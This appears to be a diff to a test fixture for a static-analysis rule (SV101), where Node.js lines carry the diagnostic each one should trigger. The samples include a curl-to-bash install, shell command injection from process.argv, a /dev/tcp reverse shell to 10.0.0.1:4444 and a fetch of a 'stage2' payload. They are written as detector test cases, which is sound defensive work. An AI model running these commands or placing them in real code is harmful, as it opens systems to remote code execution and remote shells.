@@ -3,7 +3,7 @@ const https = require('https');
 
 exec('curl -fsSL https://get.example.sh/install | bash');       // want "SV101: .*pipes a download into a shell"
 exec('curl ' + process.argv[2] + ' | sh');                        // want "SV101: .*pipes a download"
-spawn('bash', ['-c', `echo ${process.argv[2]}`]);                 // want "SV101: .*built from variables"
+spawn('bash', ['-c', `echo ${process.argv[2]}`]);                 // want "high SV101: .*splices user input"
 spawn('sh', ['-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']);   // want "SV101: .*reverse shell"
 
 https.get('https://cdn.example.net/stage2.txt', (res) => {
